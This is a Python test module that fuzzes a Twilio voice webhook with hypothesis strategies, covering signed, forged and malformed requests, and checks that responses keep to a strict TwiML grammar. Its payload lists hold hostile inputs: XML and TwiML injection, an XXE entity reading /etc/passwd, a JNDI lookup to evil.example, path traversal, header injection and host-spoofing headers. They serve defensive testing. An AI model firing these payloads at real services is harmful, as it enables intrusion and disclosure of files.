"""Requests a webhook on the internet may receive (hypothesis strategies), and what it must answer.

Signed requests are signed as Twilio signs them: RequestValidator over the public URL (scheme,
host, path and raw query) and the form fields. Every answer is checked by `check_answer`: never a
5xx, unsigned means 403, and every 200 from a TwiML route is a document made only of the verbs
Switchboard answers with, attributes and text where they belong.
"""

from __future__ import annotations

import json
import unicodedata
import xml.etree.ElementTree as ET
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote, unquote_to_bytes, urlencode

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st
from twilio.request_validator import RequestValidator
from werkzeug.datastructures import MultiDict

from tests.helpers.twiml_parse import parse_twiml
from webhook import create_app, twiml
from webhook.server import MAX_HEADER_BYTES

TOKEN = "5f4dcc3b5aa765d61d8327deb882cf99"
PUBLIC_URL = "https://switchboard-fuzz.ngrok.app"
FORM_TYPE = "application/x-www-form-urlencoded"
DEFAULT_ROOM = "Lobby"
KNOWN_CALLER = "+14155550100"
ROUTES_TOML = """\
[[route]]
number = "+15005550006"
room = "DailyStandup"
[[route]]
number = "+15005550007"
ask_code = true
[[route]]
number = "+15005550008"
hold = true
[codes]
4242 = "DailyStandup"
[callers]
"+14155550100" = "alice"
"""
TAKEN = frozenset({"alice", "phone-4567"})  # already connected in every room

TWIML_ROUTES = ("/voice/outbound", "/voice/incoming", "/voice/code", "/voice/hold")
CALLBACK_ROUTES = ("/voice/status", "/video/status")
SIGNED_ROUTES = TWIML_ROUTES + CALLBACK_ROUTES

# Hostile values: markup that would close <Room> and open other verbs, entity and DOCTYPE tricks,
# quotes, controls, characters XML cannot carry, bidi overrides, percent and form syntax, and
# names at and past Twilio's 128-character limit.
PAYLOADS = (
    "</Room></Connect><Dial>+15551234567</Dial><Connect><Room>",
    '"><Hangup/><Say a="',
    "' /><Redirect>https://evil.example/twiml</Redirect><Room x='",
    "<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><r>&x;</r>",
    "]]><Play>https://evil.example/a.mp3</Play><![CDATA[",
    "&amp;&lt;&#0;&#x1F;&bogus;&",
    "<?xml-stylesheet href='x'?>",
    "<!-- c -->",
    "' OR '1'='1",
    "\x00",
    "a\x07b",
    "\r\nX-Injected: 1",
    "\t",
    "\x85",
    "\x7f",
    "\ufffe",
    "\uffff",
    "\ufffd",
    "\u202eevil",
    "\u2028",
    "\U0010ffff",
    "%00",
    "%FF",
    "%",
    "+",
    "&",
    "=",
    "&room=Other",
    "?",
    "#frag",
    " ",
    "",
    "a" * 128,
    "a" * 129,
    "é" * 128,
    "😀" * 128,
    "😀" * 129,
    "{{7*7}}",
    "${jndi:ldap://evil.example/x}",
    "../../../../etc/passwd",
    "x" * 20_000,
)
# Raw pieces of a query string: (text, whether it carries bytes that are not UTF-8).
QUERY_JUNK = (
    ("%FF", True),
    ("%C3=1", True),
    ("junk=%C3%28", True),
    ("junk=%E2%82", True),
    ("%zz=1", False),
    ("%", False),
    ("=", False),
    ("", False),
    ("junk=%F0%9F%98%80", False),
    ("junk=a=b", False),
)
HUGE_BODY = b"Junk=" + b"x" * 600_000  # past werkzeug's 500 kB form limit

FUZZ_SETTINGS = {
    "deadline": None,
    "suppress_health_check": [
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
        HealthCheck.filter_too_much,
    ],
}


def fuzz_settings(max_examples: int) -> settings:
    """Settings for one fuzz test: no deadline (the machine may be busy), N examples."""
    return settings(max_examples=max_examples, **FUZZ_SETTINGS)


def make_app(routes_dir: Path, on_event=None, public_url: str = PUBLIC_URL):
    """The real webhook app as the console configures it, with routes and a room look-up."""
    routes = routes_dir / "routes.toml"
    routes.write_text(ROUTES_TOML, encoding="utf-8")
    config = {
        "AUTH_TOKEN": TOKEN,
        "PUBLIC_URL": public_url,
        "DEFAULT_ROOM": DEFAULT_ROOM,
        "ROUTES_FILE": str(routes),
        "ROOM_IDENTITIES": lambda room: TAKEN,
    }
    return create_app(config, on_event)


# -- what to send --------------------------------------------------------------------------------


@dataclass
class Wire:
    """One request as it goes on the wire; query and path are latin-1 text standing for bytes."""

    method: str
    path: str
    query: str = ""
    body: bytes = b""
    headers: list[tuple[str, str]] = field(default_factory=list)
    signed: bool = False  # carries a signature computed exactly as Twilio would for it
    expect: dict = field(default_factory=dict)  # what the answer must be (see check_answer)

    @property
    def target(self) -> str:
        return self.path + ("?" + self.query if self.query else "")


def signature(path: str, query: str, form: MultiDict | None, token: str = TOKEN) -> str:
    """X-Twilio-Signature for a POST to PUBLIC_URL + path + query with these form fields."""
    url = PUBLIC_URL + path + ("?" + query if query else "")
    return RequestValidator(token).compute_signature(url, form or MultiDict())


def encode_query(pairs: list[tuple[str, str]], plus: bool) -> str:
    """Percent-encode pairs as UTF-8, with + or %20 for spaces (both reach Twilio)."""
    if plus:
        return urlencode(pairs)
    return "&".join(f"{quote(k, safe='')}={quote(v, safe='')}" for k, v in pairs)


def hostile_text(max_size: int = 30) -> st.SearchStrategy[str]:
    """Any text, the payloads above, and payloads hidden inside ordinary text."""
    return st.one_of(
        st.sampled_from(PAYLOADS),
        st.text(max_size=max_size),
        st.builds(
            lambda a, b, c: a + b + c,
            st.text(max_size=6),
            st.sampled_from(PAYLOADS),
            st.text(max_size=6),
        ),
    )


# Strategies are built once, here: one made inside a draw is validated anew every time, which
# costs more than sending the request.
HOSTILE = hostile_text()
SHORT_HOSTILE = hostile_text(10)
ACCEPTABLE = st.text(st.characters(exclude_categories=("Cc", "Cs")), min_size=1, max_size=130)
NAMES = st.lists(st.one_of(ACCEPTABLE, HOSTILE), max_size=2)  # room names and identities
IDENTITIES = st.lists(st.one_of(st.just(""), ACCEPTABLE, HOSTILE), max_size=2)
FIELD_NAMES = ("CallSid", "AccountSid", "From", "To", "CallStatus", "Digits", "Direction")
FIELD = st.tuples(st.one_of(st.sampled_from(FIELD_NAMES), hostile_text(12)), HOSTILE)
FORM = st.lists(FIELD, max_size=5)  # Twilio's field names and hostile ones, repeated at times
FEW_FIELDS = st.lists(FIELD, max_size=3)
PARAMS = st.lists(st.tuples(SHORT_HOSTILE, HOSTILE), max_size=2)
EXTRAS = st.lists(
    st.tuples(SHORT_HOSTILE.filter(lambda k: k not in ("room", "identity")), HOSTILE), max_size=2
)
JUNK = st.lists(st.sampled_from(QUERY_JUNK), max_size=2)
BOOLEANS = st.booleans()
SLOTS = st.integers(0, 8)
FORM_TYPES = st.sampled_from(
    (FORM_TYPE, f"{FORM_TYPE}; charset=UTF-8", f"{FORM_TYPE};charset=utf-8")
)
HEX32 = st.text("0123456789abcdef", min_size=32, max_size=32)


def with_junk(draw, pairs: list[tuple[str, str]]) -> tuple[str, bool]:
    """pairs as a query string, with raw junk spliced in; (query, whether it holds non-UTF-8)."""
    query = encode_query(pairs, draw(BOOLEANS))
    junk = draw(JUNK)
    parts = [query] if query else []
    for text, _ in junk:
        parts.insert(min(draw(SLOTS), len(parts)), text)
    return "&".join(parts), any(broken for _, broken in junk)


def shuffled(draw, items: list) -> list:
    """items in an order hypothesis chooses (and can shrink)."""
    return list(draw(st.permutations(items))) if len(items) > 1 else list(items)


def first(pairs: list[tuple[str, str]], name: str) -> str:
    """The value a repeated key has for the webhook: the first one."""
    return next((value for key, value in pairs if key == name), "")


def form_request(
    path: str, query: str, pairs: list[tuple[str, str]], content_type: str, expect: dict
) -> Wire:
    """A signed POST with these form fields, as Twilio sends it."""
    body = urlencode(pairs).encode()
    headers = [
        ("Content-Type", content_type),
        ("X-Twilio-Signature", signature(path, query, MultiDict(pairs))),
        ("User-Agent", "TwilioProxy/1.1"),
    ]
    return Wire("POST", path, query, body, headers, signed=True, expect=expect)


@st.composite
def signed_outbound(draw) -> Wire:
    """The answered outbound call: room and identity in the signed URL, hostile or not."""
    named = [("room", r) for r in draw(NAMES)] + [("identity", i) for i in draw(IDENTITIES)]
    pairs = shuffled(draw, named + draw(EXTRAS))
    query, broken = with_junk(draw, pairs)
    expect = {
        "route": "outbound",
        "room": first(pairs, "room"),  # a repeated key: the first one counts
        "identity": first(pairs, "identity"),
        "broken": broken,
    }
    return form_request("/voice/outbound", query, draw(FORM), draw(FORM_TYPES), expect)


CALLED = st.sampled_from(("+15005550006", "+15005550007", "+15005550008", "+15005550009"))
CALLERS = st.one_of(
    st.sampled_from((KNOWN_CALLER, "+15551234567", "sip:bob@example.com", "")),
    st.builds(lambda t: "sip:" + quote(t) + "@example.com", HOSTILE),
    HOSTILE,
)


@st.composite
def signed_incoming(draw) -> Wire:
    """A call to one of the numbers: a routed room, a meeting code, hold, or the default room."""
    pairs = shuffled(draw, [("To", draw(CALLED)), ("From", draw(CALLERS)), *draw(FEW_FIELDS)])
    query, _ = with_junk(draw, draw(PARAMS))
    expect = {"route": "incoming", "to": first(pairs, "To"), "from": first(pairs, "From")}
    return form_request("/voice/incoming", query, pairs, draw(FORM_TYPES), expect)


ATTEMPTS = st.one_of(
    st.none(),
    st.sampled_from(
        ("1", "2", "3", "0", "-1", "4", "99", "x", "2.0", "٣", " 2 ", "\x00", "9" * 5000)
    ),
    SHORT_HOSTILE,
)
DIGITS = st.one_of(st.sampled_from(("4242", "4242#", "4242 #", "#", "", "1234#")), HOSTILE)


@st.composite
def signed_code(draw) -> Wire:
    """The digits a caller typed for a meeting code, on some attempt."""
    attempt = draw(ATTEMPTS)
    pairs = shuffled(draw, [("Digits", draw(DIGITS)), *draw(FEW_FIELDS)])
    query = "" if attempt is None else encode_query([("attempt", attempt)], draw(BOOLEANS))
    expect = {"route": "code", "attempt": attempt, "digits": first(pairs, "Digits")}
    return form_request("/voice/code", query, pairs, draw(FORM_TYPES), expect)


@st.composite
def signed_hold(draw) -> Wire:
    """One round of the hold loop, with whatever fields."""
    query, _ = with_junk(draw, draw(PARAMS))
    return form_request("/voice/hold", query, draw(FORM), draw(FORM_TYPES), {"route": "hold"})


CALLBACK_PATHS = st.sampled_from(CALLBACK_ROUTES)
STATUSES = st.one_of(st.sampled_from(("ringing", "completed", "failed")), HOSTILE)
SEQUENCES = st.one_of(st.integers(0, 10**6).map(str), SHORT_HOSTILE)


@st.composite
def signed_callback(draw) -> Wire:
    """A call or room status callback with hostile fields: answered 204, handed on as is."""
    pairs = [("CallSid", "CA" + draw(HEX32)), ("CallStatus", draw(STATUSES))]
    pairs = shuffled(draw, [*pairs, ("SequenceNumber", draw(SEQUENCES)), *draw(FORM)])
    fields = MultiDict(pairs).to_dict(flat=True)
    expect = {"route": "callback", "fields": fields}
    return form_request(draw(CALLBACK_PATHS), "", pairs, draw(FORM_TYPES), expect)


FORGERIES = (
    "missing",
    "empty",
    "garbage",
    "wrong-token",
    "http-not-https",
    "other-host",
    "other-path",
    "query-added",
    "field-added",
    "field-changed",
)
SIGNED_PATHS = st.sampled_from(SIGNED_ROUTES)
HOW = st.sampled_from(FORGERIES)
GARBAGE = st.text(st.characters(min_codepoint=32, max_codepoint=255), max_size=40)


@st.composite
def forged(draw) -> Wire:
    """A request to a Twilio route that Twilio did not sign (or not for this URL and form)."""
    path, how = draw(SIGNED_PATHS), draw(HOW)
    pairs = [pair for pair in draw(FORM) if pair[0] not in ("Digits", "Forged")]  # tampered below
    query = encode_query(draw(PARAMS), True)
    form = MultiDict(pairs)
    sent_pairs, sent_query = list(pairs), query
    value: str | None = None
    if how == "empty":
        value = ""
    elif how == "garbage":
        value = draw(GARBAGE)
    elif how == "wrong-token":
        value = signature(path, query, form, token="0" * 32)
    elif how in ("http-not-https", "other-host"):
        base = "https://evil.example.com"
        if how == "http-not-https":
            base = PUBLIC_URL.replace("https:", "http:")
        url = base + path + ("?" + query if query else "")
        value = RequestValidator(TOKEN).compute_signature(url, form)
    elif how == "other-path":
        other = draw(st.sampled_from([p for p in SIGNED_ROUTES if p != path]))
        value = signature(other, query, form)
    elif how == "query-added":
        value = signature(path, query, form)
        sent_query = (query + "&" if query else "") + "room=Intruders"
    elif how == "field-added":
        value = signature(path, query, form)
        sent_pairs.append(("Forged", draw(HOSTILE)))
    elif how == "field-changed":  # a value altered after signing
        value = signature(path, query, MultiDict([*pairs, ("Digits", "1")]))
        sent_pairs.append(("Digits", "4242"))
    headers = [("Content-Type", FORM_TYPE)]
    if value is not None:
        headers.append(("X-Twilio-Signature", value))
    body = urlencode(sent_pairs).encode()
    return Wire("POST", path, sent_query, body, headers, expect={"route": "forged", "how": how})


METHODS = ("POST", "GET", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "PROPFIND")
PATHS = (
    *SIGNED_ROUTES,
    "/health",
    "/",
    "/voice",
    "/voice/",
    "/voice/outbound/",
    "//voice/outbound",
    "/voice/./outbound",
    "/voice/%6Futbound",
    "/VOICE/OUTBOUND",
    "/voice/outbound%00",
    "/voice/outbound;jsessionid=1",
    "/voice/%FF",
    "/..%2F..%2Fetc%2Fpasswd",
    "/static/app.js",
    "/health/",
    "/video/status/../../voice/outbound",
)
CONTENT_TYPES = (
    FORM_TYPE,
    f"{FORM_TYPE}; charset=latin-1",
    "multipart/form-data; boundary=xyz",
    "multipart/form-data",
    "application/json",
    "text/xml",
    "text/plain",
    "application/octet-stream",
    "",
    "x/y; ;;=",
)
MULTIPART = (
    b'--xyz\r\nContent-Disposition: form-data; name="From"\r\n\r\n+15551234567\r\n'
    b'--xyz\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\n\r\n<x/>\r\n'
    b"--xyz--\r\n"
)
EXTRA_HEADERS = st.lists(
    st.sampled_from(
        (
            ("X-Forwarded-Host", "evil.example.com"),
            ("X-Forwarded-Proto", "http"),
            ("X-Forwarded-For", "203.0.113.9"),
            ("X-Original-URL", "/voice/outbound?room=Hijack"),
            ("Content-Encoding", "gzip"),
            ("Accept", "*/*"),
            ("Cookie", "session=x"),
            ("I-Twilio-Idempotency-Token", "\xe9\xff"),
            ("X-Twilio-Webhooks-Signature-Settings", "key=x,algorithm=HMAC_SHA256"),
        )
    ),
    max_size=3,
)
# Each leans toward what Twilio sends (POST, its routes, a form), so that some of these requests
# get through the signature check too, and the rest of the app gets fuzzed behind it.
ANY_METHOD = st.one_of(st.just("POST"), st.sampled_from(METHODS))
ANY_PATH = st.one_of(
    st.sampled_from((*SIGNED_ROUTES, "/health")),
    st.sampled_from(PATHS),
    st.text("abcdefghijklmnopqrstuvwxyz/._-%", max_size=20).map(lambda p: "/" + p),
)
RAW_QUERY = st.binary(max_size=60).map(lambda b: b.decode("latin-1").replace("#", "%23"))
BODY_KINDS = st.one_of(
    st.just("form"), st.sampled_from(("form", "raw", "json", "multipart", "empty", "huge"))
)
RAW_BODY = st.binary(max_size=300)
ANY_CONTENT_TYPE = st.one_of(st.just(FORM_TYPE), st.sampled_from(CONTENT_TYPES))
SIGNING = st.sampled_from(("none", "garbage", "as-sent"))
ASCII_GARBAGE = st.text(st.characters(min_codepoint=32, max_codepoint=126), max_size=40)


@st.composite
def anything(draw) -> Wire:
    """Any method, path, raw query, headers and body; signed, forged or not signed at all."""
    method, path = draw(ANY_METHOD), draw(ANY_PATH)
    query_kind = draw(st.sampled_from(("none", "raw", "params")))
    query = ""
    if query_kind == "raw":
        query = draw(RAW_QUERY)
    elif query_kind == "params":
        query = with_junk(draw, draw(PARAMS))[0]
    pairs = draw(FORM)
    kind = draw(BODY_KINDS)
    body = b""
    if kind == "form":
        body = urlencode(pairs).encode()
    elif kind == "raw":
        body = draw(RAW_BODY)
    elif kind == "json":
        body = json.dumps(dict(pairs)).encode()
    elif kind == "multipart":
        body = MULTIPART
    elif kind == "huge":
        body = HUGE_BODY
    headers: list[tuple[str, str]] = []
    if content_type := draw(ANY_CONTENT_TYPE):
        headers.append(("Content-Type", content_type))
    mode = draw(SIGNING)
    if mode == "garbage":
        headers.append(("X-Twilio-Signature", draw(ASCII_GARBAGE)))
    elif mode == "as-sent":  # what Twilio would sign had it sent this (the form as encoded)
        headers.append(("X-Twilio-Signature", signature(path, query, MultiDict(pairs))))
    headers += draw(EXTRA_HEADERS)
    return Wire(method, path, query, body, headers, expect={"route": "anything", "mode": mode})


# -- what must come back ---------------------------------------------------------------------------

# tag -> (child tags allowed, attributes allowed)
TWIML_GRAMMAR: dict[str, tuple[frozenset[str], frozenset[str]]] = {
    "Response": (
        frozenset({"Connect", "Say", "Hangup", "Gather", "Redirect", "Pause", "Play"}),
        frozenset(),
    ),
    "Connect": (frozenset({"Room"}), frozenset()),
    "Room": (frozenset(), frozenset({"participantIdentity"})),
    "Say": (frozenset(), frozenset()),
    "Hangup": (frozenset(), frozenset()),
    "Gather": (
        frozenset({"Say"}),
        frozenset({"input", "finishOnKey", "action", "method", "timeout"}),
    ),
    "Redirect": (frozenset(), frozenset({"method"})),
    "Pause": (frozenset(), frozenset({"length"})),
    "Play": (frozenset(), frozenset()),
}
SPOKEN = frozenset(
    {
        twiml.NOT_IN_PROGRESS,
        twiml.CODE_PROMPT,
        twiml.WRONG_CODE,
        twiml.NO_CODE,
        twiml.CODE_GOODBYE,
        twiml.HOLD_GREETING,
        twiml.HOLD_MESSAGE,
    }
)
REFUSAL = "Sorry, this call cannot be connected. "
XML_PROLOGUE = b'<?xml version="1.0" encoding="UTF-8"?><Response>'


BIDI_CONTROLS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def acceptable_name(value: str) -> bool:
    """The rule for names (README): valid UTF-8, at most 128 characters, no controls, and no
    text-direction controls (they make a name display as something it is not)."""
    return len(value) <= 128 and all(
        unicodedata.category(c) not in ("Cc", "Cs") and c not in "\ufffe\uffff" + BIDI_CONTROLS
        for c in value
    )


def check_twiml(body: bytes) -> ET.Element:
    """A well-formed document made only of Switchboard's verbs, in their places."""
    assert body.startswith(XML_PROLOGUE), body[:200]
    assert b"<!" not in body and b"<?" not in body[len(XML_PROLOGUE) :], body[:300]
    root = parse_twiml(body)
    for element in root.iter():
        children, attributes = TWIML_GRAMMAR[element.tag]  # KeyError: a verb we never send
        assert {child.tag for child in element} <= children, (element.tag, body[:300])
        assert set(element.attrib) <= attributes, (element.tag, element.attrib)
        if element.tag == "Say":
            text = element.text or ""
            assert text in SPOKEN or text.startswith(REFUSAL), text
        if element.tag in ("Redirect", "Gather"):
            target = element.text if element.tag == "Redirect" else element.attrib["action"]
            assert target == "hold" or (target or "").startswith("code?attempt="), target
            assert element.attrib.get("method") == "POST"
        if element.tag == "Room":
            assert acceptable_name(element.text or "") and (element.text or "").strip()
            assert acceptable_name(element.attrib.get("participantIdentity", ""))
    return root


def verbs(root: ET.Element) -> list[str]:
    return [child.tag for child in root]


def decoded_path(path: str) -> str:
    """The path the app routes on (percent escapes undone), as text."""
    return unquote_to_bytes(path.encode("latin-1")).decode("utf-8", "replace")


def is_refusal(root: ET.Element) -> bool:
    return verbs(root) == ["Say", "Hangup"] and (root[0].text or "").startswith(REFUSAL)


def joined(root: ET.Element) -> tuple[str, str | None]:
    """(room, participantIdentity or None) of a document that joins a room, then explains."""
    assert verbs(root) == ["Connect", "Say", "Hangup"], verbs(root)
    assert root[1].text == twiml.NOT_IN_PROGRESS
    (room,) = list(root[0])
    return room.text or "", room.attrib.get("participantIdentity")


def check_answer(wire: Wire, status: int, content_type: str, body: bytes) -> None:
    """Whatever was sent: no 5xx, 403 when unsigned, TwiML or JSON for a 200, and as expected."""
    assert status < 500, (status, wire, body[:500])
    if status == 431:  # only a request line longer than the whole header allowance
        assert len(f"{wire.method} {wire.target} HTTP/1.1") > MAX_HEADER_BYTES, wire.target[:200]
        return
    path = decoded_path(wire.path)
    signing_route = path in SIGNED_ROUTES and wire.method == "POST"
    route = wire.expect.get("route")
    unsigned = route == "forged" or (route == "anything" and wire.expect["mode"] != "as-sent")
    if unsigned and signing_route:
        # An unsigned or forged request never gets further than the signature check
        # (413 only for a body too large to read the form fields from at all).
        assert status == 403 or (status == 413 and len(wire.body) > 500_000), (status, wire)
    if status == 200:
        if path == "/health":
            if wire.method in ("HEAD", "OPTIONS"):
                assert body == b""
            else:
                assert json.loads(body)["status"] == "ok", body
        else:
            assert path in TWIML_ROUTES and signing_route, (path, wire.method)
            assert content_type.startswith("text/xml"), content_type
            check_twiml(body)
    if status == 204:
        assert path in CALLBACK_ROUTES and signing_route and not body
    if wire.signed:
        check_signed(wire, status, body)


def check_signed(wire: Wire, status: int, body: bytes) -> None:
    """A request Twilio signed gets exactly the answer its route promises."""
    expect = wire.expect
    route = expect["route"]
    if route == "callback":
        assert status == 204, (status, body[:300])
        return
    assert status == 200, (status, body[:300])
    root = check_twiml(body)
    if route == "outbound":
        room, identity = expect["room"], expect["identity"]
        refused = not (room.strip() and acceptable_name(room) and acceptable_name(identity))
        if expect["broken"] or refused:
            assert is_refusal(root), body
        else:  # the names stay text: exactly what was asked for, nothing more
            assert joined(root) == (room, identity or None), body
    elif route == "incoming":
        check_incoming(root, expect["to"], expect["from"])
    elif route == "code":
        check_code(root, expect["attempt"], expect["digits"])
    elif route == "hold":
        assert verbs(root) == ["Say", "Pause", "Redirect"], body
        assert (root[0].text, root[2].text) == (twiml.HOLD_MESSAGE, "hold")


def check_incoming(root: ET.Element, to: str, caller: str) -> None:
    if to == "+15005550007":
        assert verbs(root) == ["Gather", "Redirect"] and root[1].text == "code?attempt=1"
        return
    if to == "+15005550008":
        assert verbs(root) == ["Say", "Redirect"] and root[0].text == twiml.HOLD_GREETING
        return
    room, identity = joined(root)
    assert room == ("DailyStandup" if to == "+15005550006" else DEFAULT_ROOM)
    if not caller:
        assert identity is None
    elif caller == KNOWN_CALLER:
        assert identity == "alice-2"  # "alice" is taken in the room: a free variant
    else:
        assert identity and identity not in TAKEN and acceptable_name(identity)


def check_code(root: ET.Element, attempt: str | None, digits: str) -> None:
    if digits.strip().rstrip("#") == "4242":
        assert joined(root)[0] == "DailyStandup"
        return
    try:
        current = min(max(int(attempt or "1"), 1), 3)
    except ValueError:
        current = 1
    if current >= 3:
        assert verbs(root) == ["Say", "Hangup"] and root[0].text == twiml.CODE_GOODBYE
    else:
        assert verbs(root)[-2:] == ["Gather", "Redirect"]
        assert root[-1].text == f"code?attempt={current + 1}"
